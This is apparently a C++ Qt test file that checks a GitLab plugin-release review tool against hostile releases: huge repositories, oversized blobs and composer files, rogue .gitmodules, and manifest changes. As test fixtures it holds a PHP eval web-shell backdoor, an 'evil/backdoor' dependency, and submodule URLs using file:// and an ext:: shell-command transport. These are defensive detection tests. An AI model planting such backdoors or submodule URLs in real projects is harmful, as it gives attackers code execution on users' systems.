// Hostile releases against the review (issue 15, "Hostile third parties"):
// repositories built with real git (fast-import into the emulator's bare
// repository) that no GitLab API call could create in test time: 100,000
// files, a huge blob, a 10 MB composer.json, a .gitmodules pointing elsewhere.
// Each review must stay bounded in requests, bytes read and time, and name
// what it did not scan.
#include "core/gitlab/gitlabclient.h"
#include "core/review/reviewloader.h"
#include "sandbox/emulator/gitlabemulator.h"
#include "tests/support/gitlabwait.h"

#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

#include <memory>

using namespace Dockmaster;

namespace {

const QByteArray Backdoor = "<?php\neval($_GET['c']);\n";

QStringList flagsOf(const ReviewResult &result)
{
    QStringList out;
    for (const RiskFlag &f : result.flags)
        out.append(f.path + QLatin1Char(':') + RiskScanner::kindKey(f.kind));
    out.removeDuplicates();
    out.sort();
    return out;
}

// One file of a fast-import commit: inline content, or an existing blob id.
struct ImportFile {
    QByteArray path;
    QByteArray content;
    QByteArray blobId;
};

} // namespace

class TestHostileRelease : public QObject
{
    Q_OBJECT

    GitLabResponse call(const QByteArray &method, const QString &path, const QJsonObject &body = {})
    {
        return Test::sendAndWait(m_client.get(), method, path, body);
    }

    // Runs git in the emulator's bare repository of the project; its output.
    QByteArray git(const QStringList &args, const QByteArray &input = {})
    {
        QProcess p;
        p.setWorkingDirectory(m_repo);
        p.start(QStringLiteral("git"), args);
        [&] {
            QVERIFY(p.waitForStarted());
        }();
        for (qsizetype at = 0; at < input.size(); at += 1 << 20) {
            p.write(input.mid(at, 1 << 20));
            p.waitForBytesWritten(-1);
        }
        p.closeWriteChannel();
        p.waitForFinished(300000);
        const QByteArray err = p.readAllStandardError();
        [&] {
            QVERIFY2(p.exitStatus() == QProcess::NormalExit && p.exitCode() == 0,
                     qPrintable(args.join(u' ') + QStringLiteral(": ") + QString::fromUtf8(err)));
        }();
        return p.readAllStandardOutput().trimmed();
    }

    // A release of the plugin: a commit on top of the live one with `files`
    // added, tagged `tag` (as a plugin developer would push it); its SHA.
    QString release(const QString &tag, const QList<ImportFile> &files)
    {
        QByteArray stream;
        stream += "commit refs/tags/" + tag.toUtf8() + "\n";
        stream += "committer Dev <dev@example.com> 1700000000 +0000\n";
        stream += "data 8\nrelease\n";
        stream += "from " + m_live.toLatin1() + "\n";
        for (const ImportFile &f : files) {
            if (!f.blobId.isEmpty()) {
                stream += "M 100644 " + f.blobId + " " + f.path + "\n";
            } else {
                stream += "M 100644 inline " + f.path + "\n";
                stream += "data " + QByteArray::number(f.content.size()) + "\n" + f.content + "\n";
            }
        }
        stream += "\n";
        git({ QStringLiteral("fast-import"), QStringLiteral("--quiet") }, stream);
        return QString::fromLatin1(git({ QStringLiteral("rev-parse"), QStringLiteral("refs/tags/") + tag }));
    }

    struct Loaded {
        ReviewResult result;
        qint64 ms = 0;
    };

    Loaded review(const QString &live, const QString &requested, const ReviewLimits &limits = {})
    {
        ReviewLoader loader(m_client.get());
        loader.setLimits(limits);
        QSignalSpy loaded(&loader, &ReviewLoader::loaded);
        QSignalSpy failed(&loader, &ReviewLoader::failed);
        QElapsedTimer timer;
        timer.start();
        loader.load(m_project, live, requested);
        [&] {
            QVERIFY(QTest::qWaitFor([&] { return !loaded.isEmpty() || !failed.isEmpty(); }, 240000));
            QVERIFY2(failed.isEmpty(), failed.isEmpty() ? "" : qPrintable(failed.first().first().toString()));
        }();
        return { loaded.isEmpty() ? ReviewResult {} : loaded.first().first().value<ReviewResult>(), timer.elapsed() };
    }

    int requests(const char *method, const QString &pathRegex) const
    {
        return m_emulator->requestCount(QString::fromLatin1(method), pathRegex);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_emulator = std::make_unique<GitLabEmulator>(m_dir.path());
        QVERIFY(m_emulator->start());
        m_client = Test::adminClient(*m_emulator);
        const qint64 id = Test::createProject(m_client.get(), QStringLiteral("app0000015"));
        QVERIFY(id > 0);
        m_project = QString::number(id);
        const GitLabResponse base = call(
            "POST", GitLabClient::projectPath(m_project) + QStringLiteral("/repository/commits"),
            { { QStringLiteral("branch"), QStringLiteral("main") },
              { QStringLiteral("commit_message"), QStringLiteral("Skeleton") },
              { QStringLiteral("actions"),
                QJsonArray { QJsonObject { { QStringLiteral("action"), QStringLiteral("create") },
                                           { QStringLiteral("file_path"), QStringLiteral("web/index.php") },
                                           { QStringLiteral("content"), QStringLiteral("<?php\necho 1;\n") } } } } });
        QVERIFY2(base.error.isOk(), qPrintable(base.error.message));
        m_live = QJsonDocument::fromJson(base.body).object().value(QStringLiteral("id")).toString();
        QCOMPARE(m_live.size(), 40);
        m_repo = m_emulator->repositoryPath(id);
        QVERIFY(!m_repo.isEmpty());
    }

    void init() { m_emulator->clearRequestLog(); }

    // 100,000 files: the tree is listed only up to the limit, in a bounded
    // number of requests and time, and the review says files went unscanned
    // (the backdoor sorts last, past the listed part).
    void hundredThousandFiles()
    {
        QList<ImportFile> files;
        files.reserve(100001);
        for (int i = 0; i < 100000; ++i) {
            const bool php = i % 1000 == 0; // 100 PHP files spread through the tree
            files.append({ QStringLiteral("data/d%1/f%2.%3")
                               .arg(i / 1000, 3, 10, QLatin1Char('0'))
                               .arg(i, 6, 10, QLatin1Char('0'))
                               .arg(php ? QStringLiteral("php") : QStringLiteral("txt"))
                               .toUtf8(),
                           php ? QByteArray(QByteArray("<?php return ") + QByteArray::number(i) + ";\n")
                               : QByteArray(QByteArray("row ") + QByteArray::number(i) + '\n'),
                           {} });
        }
        files.append({ "zzz/backdoor.php", Backdoor, {} });
        const QString requested = release(QStringLiteral("v9.0.0"), files);

        ReviewLimits limits;
        limits.maxTreeEntries = 5000; // the default (30,000) works the same, only slower on the emulator
        for (const QString &live : { m_live, QString() }) {
            m_emulator->clearRequestLog();
            const Loaded loaded = review(live, requested, limits);
            const ReviewResult &r = loaded.result;
            qInfo("100,000 files, %s: %lld ms, %d tree pages, %d file reads",
                  live.isEmpty() ? "first release" : "update", loaded.ms,
                  requests("GET", QStringLiteral("/repository/tree")), requests("GET", QStringLiteral("/raw$")));
            QVERIFY2(requests("GET", QStringLiteral("/repository/tree")) <= (live.isEmpty() ? 1 : 2) * 50,
                     qPrintable(QString::number(requests("GET", QStringLiteral("/repository/tree")))));
            QCOMPARE(r.treeCutAt, 5000);
            QVERIFY(!r.scanComplete());
            QVERIFY(r.tooLarge);
            QVERIFY2(r.verdict().contains(QStringLiteral("more than 5,000 files")), qPrintable(r.verdict()));
            QCOMPARE(r.scanTotal, 5); // the PHP files among the first 5,000 entries
            QCOMPARE(r.scanned, 5);
            QVERIFY(!flagsOf(r).contains(QStringLiteral("zzz/backdoor.php:eval"))); // not listed, not scanned: said
            QVERIFY(loaded.ms < 120000);
        }
    }

    // Past the scan's file count: the rest are counted, not read.
    void scanFileLimit()
    {
        QList<ImportFile> files;
        for (int i = 0; i < 12; ++i)
            files.append({ QByteArray(QByteArray("web/p") + QByteArray::number(i) + ".php"), Backdoor, {} });
        const QString requested = release(QStringLiteral("v9.0.1"), files);
        ReviewLimits limits;
        limits.maxScanFiles = 10;
        const ReviewResult r = review(m_live, requested, limits).result;
        QCOMPARE(r.scanTotal, 10);
        QCOMPARE(r.scanned, 10);
        QCOMPARE(r.skippedByLimit, 2);
        QVERIFY(!r.scanComplete());
        QVERIFY2(r.verdict().contains(QStringLiteral("2 more file")), qPrintable(r.verdict()));
        QVERIFY(requests("GET", QStringLiteral("/raw$")) <= 10);
    }

    // A huge blob in a release is never read: its size (a HEAD of the file)
    // is checked before the content is asked for, in a scanned PHP file and
    // in a file a first release only shows. 100 MB by default (past the 64 MB
    // scan limit): the in-process emulator itself needs over 30 s under ASan
    // to answer a HEAD of a 500 MB blob (it inflates and hashes it), which
    // is GitLab's side; DOCKMASTER_HUGE_BLOB_MB=500 runs the full size.
    void hugeBlobIsNotRead()
    {
        const qsizetype size = qEnvironmentVariableIntValue("DOCKMASTER_HUGE_BLOB_MB") > 0
            ? qsizetype(qEnvironmentVariableIntValue("DOCKMASTER_HUGE_BLOB_MB")) * 1024 * 1024
            : qsizetype(100) * 1024 * 1024;
        QElapsedTimer timer;
        timer.start();
        QProcess p;
        p.setWorkingDirectory(m_repo);
        // Zeros: a binary blob git stores in a few MB; hash-object streams it.
        p.start(
            QStringLiteral("sh"),
            { QStringLiteral("-c"), QStringLiteral("head -c %1 /dev/zero | git hash-object -w --stdin").arg(size) });
        QVERIFY(p.waitForFinished(300000));
        QCOMPARE(p.exitCode(), 0);
        const QByteArray blob = p.readAllStandardOutput().trimmed();
        QCOMPARE(blob.size(), 40);
        qInfo("%lld MB blob written in %lld ms", qint64(size >> 20), timer.elapsed());
        const QString requested = release(
            QStringLiteral("v9.1.0"),
            { { "web/huge.php", {}, blob }, { "web/huge.bin", {}, blob }, { "web/small.php", Backdoor, {} } });

        for (const QString &live : { m_live, QString() }) {
            m_emulator->clearRequestLog();
            const Loaded loaded = review(live, requested);
            const ReviewResult &r = loaded.result;
            qInfo("%lld MB blob, %s: reviewed in %lld ms", qint64(size >> 20),
                  live.isEmpty() ? "first release" : "update", loaded.ms);
            QCOMPARE(requests("GET", QStringLiteral("huge\\.(php|bin)/raw")), 0);
            QVERIFY(requests("HEAD", QStringLiteral("huge\\.php")) >= 1);
            QVERIFY(r.isUnscanned(QStringLiteral("web/huge.php")));
            QVERIFY2(r.verdict().contains(QStringLiteral("larger than 64 MB: not read")), qPrintable(r.verdict()));
            QVERIFY(!r.scanComplete());
            QVERIFY2(flagsOf(r).contains(QStringLiteral("web/small.php:eval")), qPrintable(flagsOf(r).join(u' ')));
            if (live.isEmpty()) {
                const ReviewFile *bin = r.file(QStringLiteral("web/huge.bin"));
                QVERIFY(bin);
                QVERIFY(bin->tooLarge);
                QVERIFY(bin->diff.diff.isEmpty());
            }
        }
    }

    // The byte budget of one review: past it, files are named unscanned, not read.
    void readBudgetBoundsMemory()
    {
        QList<ImportFile> files;
        QByteArray padded = "<?php\n";
        padded += QByteArray(300 * 1024, 'x').prepend("/*").append("*/\n");
        for (int i = 0; i < 10; ++i)
            files.append({ QByteArray(QByteArray("web/pad") + QByteArray::number(i) + ".php"), padded, {} });
        const QString requested = release(QStringLiteral("v9.2.0"), files);
        ReviewLimits limits;
        limits.maxReadBytes = 1024 * 1024; // three of the ten files
        limits.maxParallelFetches = 1;
        const ReviewResult r = review(m_live, requested, limits).result;
        QCOMPARE(r.scanned, 3);
        QCOMPARE(r.unscanned.size(), 7);
        QVERIFY2(r.unscanned.first().reason.contains(QStringLiteral("already read 1 MB")),
                 qPrintable(r.unscanned.first().reason));
        QVERIFY(requests("GET", QStringLiteral("/raw$")) <= 3);
    }

    // A 10 MB composer.json takes GitLab's comparison past its limits, so the
    // diff does not list it; the review still flags the dependency change and
    // never reads the file.
    void tenMegabyteComposerJson()
    {
        QByteArray composer = "{\n  \"require\": {\n";
        for (int i = 0; composer.size() < 10 * 1024 * 1024; ++i)
            composer += "    \"vendor" + QByteArray::number(i) + "/package\": \"^1.0\",\n";
        composer += "    \"evil/backdoor\": \"dev-main\"\n  }\n}\n";
        const QString requested = release(QStringLiteral("v9.3.0"), { { "composer.json", composer, {} } });
        for (const QString &live : { m_live, QString() }) {
            m_emulator->clearRequestLog();
            const Loaded loaded = review(live, requested);
            const ReviewResult &r = loaded.result;
            qInfo("10 MB composer.json, %s: %lld ms", live.isEmpty() ? "first release" : "update", loaded.ms);
            QVERIFY2(flagsOf(r).contains(QStringLiteral("composer.json:composer")), qPrintable(flagsOf(r).join(u' ')));
            QCOMPARE(requests("GET", QStringLiteral("composer\\.json/raw")), 0);
            const ReviewFile *shown = r.file(QStringLiteral("composer.json"));
            if (shown)
                QVERIFY(shown->diff.diff.size() <= ReviewLimits {}.maxFileChars);
            QVERIFY(r.tooLarge || r.compareTimeout);
            QVERIFY(loaded.ms < 120000);
        }
    }

    // A .gitmodules in a release names where a recursive checkout would fetch
    // code from: flagged as its own, high-severity risk; nothing is fetched.
    void gitmodulesPointingElsewhere_data()
    {
        QTest::addColumn<QByteArray>("url");
        QTest::newRow("another host") << QByteArray("https://evil.example.net/x.git");
        QTest::newRow("file://") << QByteArray("file:///etc");
        QTest::newRow("ext::") << QByteArray("ext::sh -c touch% /tmp/dockmaster-pwned");
    }

    void gitmodulesPointingElsewhere()
    {
        QFETCH(QByteArray, url);
        const QByteArray modules = "[submodule \"codes\"]\n\tpath = codes\n\turl = " + url + "\n";
        const QString tag = QStringLiteral("v9.4.%1").arg(++m_tags);
        const QString requested = release(tag, { { ".gitmodules", modules, {} }, { "lib/.gitmodules", modules, {} } });
        for (const QString &live : { m_live, QString() }) {
            m_emulator->clearRequestLog();
            const ReviewResult r = review(live, requested).result;
            const QStringList flags = flagsOf(r);
            QVERIFY2(flags.contains(QStringLiteral(".gitmodules:submodule")), qPrintable(flags.join(u' ')));
            QVERIFY2(flags.contains(QStringLiteral("lib/.gitmodules:submodule")), qPrintable(flags.join(u' ')));
            QVERIFY(RiskScanner::isHighSeverity(RiskKind::Submodule));
            for (const EmulatorRequestLogEntry &e : m_emulator->requestLog())
                QVERIFY2(!e.path.contains(QLatin1String("evil")) && !e.path.contains(QLatin1String("etc")),
                         qPrintable(e.path));
        }
        QVERIFY(!QFile::exists(QStringLiteral("/tmp/dockmaster-pwned")));
    }

    // The plugin's platform manifest asks for permissions, open paths and a
    // quota: any change is its own high-severity flag, also when the file is
    // hidden as the other hostile releases hide files (a NUL byte, a rename
    // away, a deletion), and only the repository's own (at its root) counts.
    void manifestChangesAreFlagged_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::newRow("new permission") << QByteArray(
            "{\n  \"permissions\": {\"orders.read\": \"See orders\", \"orders.export\": \"Export\"},\n"
            "  \"anonymous_paths\": [\"/\"]\n}\n");
        QTest::newRow("with a NUL byte") << (QByteArray("{\"permissions\": {\"x\": \"y\"}}\n") + '\0' + "binary?\n");
    }

    void manifestChangesAreFlagged()
    {
        QFETCH(QByteArray, content);
        const QString tag = QStringLiteral("v9.5.%1").arg(++m_tags);
        const QString requested
            = release(tag, { { "platform.json", content, {} }, { "docs/platform.json", content, {} } });
        for (const QString &live : { m_live, QString() }) {
            const QStringList flags = flagsOf(review(live, requested).result);
            QVERIFY2(flags.contains(QStringLiteral("platform.json:manifest")), qPrintable(flags.join(u' ')));
            QVERIFY2(!flags.contains(QStringLiteral("docs/platform.json:manifest")), qPrintable(flags.join(u' ')));
        }
        QVERIFY(RiskScanner::isHighSeverity(RiskKind::PlatformManifest));
    }

private:
    QTemporaryDir m_dir;
    std::unique_ptr<GitLabEmulator> m_emulator;
    std::unique_ptr<GitLabClient> m_client;
    QString m_project;
    QString m_live;
    QString m_repo;
    int m_tags = 0;
};

QTEST_GUILESS_MAIN(TestHostileRelease)
#include "tst_hostilerelease.moc"
